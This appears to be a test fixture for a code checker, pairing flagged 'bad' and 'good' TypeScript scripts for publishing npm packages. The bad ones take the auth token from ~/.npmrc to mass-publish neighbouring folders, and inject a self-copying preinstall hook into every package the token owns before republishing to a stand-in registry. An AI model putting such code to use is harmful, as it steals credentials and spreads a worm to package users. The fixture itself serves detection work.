//: bad registry-token
import { readFileSync, readdirSync } from 'node:fs';
import { execSync } from 'node:child_process';

const token: string | undefined = readFileSync(`${process.env.HOME}/.npmrc`, 'utf8').match(/_authToken=(.+)/)?.[1];

for (const folder of readdirSync('..')) {
  execSync(`npm version patch && npm publish --//registry.example.invalid/:_authToken=${token}`, { cwd: `../${folder}` }); //!
}

//: good registry-token
import { readFileSync } from 'node:fs';
import { execSync } from 'node:child_process';

const { version } = JSON.parse(readFileSync('package.json', 'utf8')) as { version: string };

execSync('npm run build', { stdio: 'inherit' });
console.log(`to release ${version}: git push --follow-tags`);

//: bad token-republish
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync, copyFileSync } from 'node:fs';

const owned = JSON.parse(execFileSync('npm', ['access', 'list', 'packages', '--json']).toString()) as Record<string, string>;

for (const name of Object.keys(owned)) {
  execFileSync('npm', ['pack', name]);
  const manifest = JSON.parse(readFileSync('package/package.json', 'utf8')) as { scripts: Record<string, string> };
  manifest.scripts.preinstall = 'node setup.js --version';
  copyFileSync(__filename, 'package/setup.js');
  writeFileSync('package/package.json', JSON.stringify(manifest));
  execFileSync('npm', ['publish', '--registry', 'https://npm.example.invalid'], { cwd: 'package' }); //!
}

//: good token-republish
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';

const manifest = JSON.parse(readFileSync('package.json', 'utf8')) as { name: string; version: string };
const published = execFileSync('npm', ['view', manifest.name, 'version']).toString().trim();

if (published !== manifest.version) {
  execFileSync('npm', ['run', 'build'], { stdio: 'inherit' });
  execFileSync('npm', ['publish', '--access', 'public'], { stdio: 'inherit' });
}
